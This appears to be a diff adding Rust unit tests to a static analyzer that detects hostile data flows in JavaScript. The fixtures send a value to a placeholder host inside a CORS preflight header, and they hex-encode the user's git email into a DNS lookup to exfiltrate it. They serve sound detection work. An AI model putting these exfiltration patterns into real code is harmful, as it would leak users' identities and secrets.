@@ -208,3 +208,30 @@ fn every_name_that_a_bundler_hands_on_is_its_own() {
     has(Language::JavaScript, &code("bad"), "flow-download-run");
     has_not(Language::JavaScript, &code("good"), "flow-download-run");
 }
+
+#[test]
+fn headers_of_browsers_carry_nothing_for_others() {
+    let code = |header: &str, value: &str| {
+        format!(
+            "exports.warm = (base, value) => {{ fetch(`https://edge.h.invalid/v1/models`, {{ method: 'OPTIONS', headers: {{ \
+             '{header}': {value}, Origin: base }} }}).catch(() => {{}}); }};\n"
+        )
+    };
+    has(Language::JavaScript, &code("access-control-request-headers", "value"), "flow-secret-told");
+    has_not(Language::JavaScript, &code("access-control-request-headers", "'content-type'"), "flow-secret-told");
+    has_not(Language::JavaScript, &code("accept-language", "value"), "flow-secret-told");
+}
+
+#[test]
+fn a_name_nobody_wants_the_answer_of_tells_something() {
+    let code = |uses: &str| {
+        format!(
+            "const dns = require('dns/promises'), cp = require('child_process');\nexports.go = async (i) => {{ const mail = \
+             cp.execSync('git config user.email').toString(); {uses} }};\n"
+        )
+    };
+    let of = |uses: &str| severity(&code(uses), "flow-dns-exfiltration");
+    let name = "`${Buffer.from(mail).toString('hex')}.q.h.invalid`";
+    assert_eq!(of(&format!("dns.resolveTxt({name}).catch(() => []);")), Some(Severity::High));
+    assert!(of(&format!("return await dns.resolveTxt({name});")).is_none_or(|s| s < Severity::High));
+}
